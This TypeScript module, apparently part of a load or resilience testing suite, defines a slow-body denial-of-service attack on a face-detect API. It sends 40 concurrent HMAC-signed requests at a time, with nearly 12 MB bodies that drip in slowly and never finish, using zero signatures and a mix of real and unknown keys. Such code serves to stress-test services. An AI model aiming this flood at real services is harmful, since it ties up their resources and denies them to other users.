import { type Attack, flood } from '../attack.ts';

const width = 40;
const size = 11_900_000;
const nearlyAll = [Buffer.alloc(size - 1000, 0x20)];

/** Nearly whole bodies behind signatures that can't be judged before the last byte, which never comes. */
export const heldBodies: Attack = {
  name: 'held-bodies',
  what: `signed requests whose bodies of 12 MB never end, ${width} at a time, known and unknown keys`,
  prepare: async (order) => () =>
    flood(order, width, (number) => {
      const date = `${new Date().toISOString().slice(0, 19).replaceAll(/[-:]/g, '')}Z`;
      const key = number % 2 === 0 ? order.target.ak : `UNKNOWN${number}`;
      return {
        path: `/v2/${order.target.projectId}/face-detect`,
        headers: {
          'content-type': 'application/json',
          'x-sdk-date': date,
          authorization: `SDK-HMAC-SHA256 Access=${key}, SignedHeaders=host;x-sdk-date, Signature=${'0'.repeat(64)}`,
        },
        body: nearlyAll,
        drip: { everyMs: 500, bytes: 1000 },
      };
    }),
};
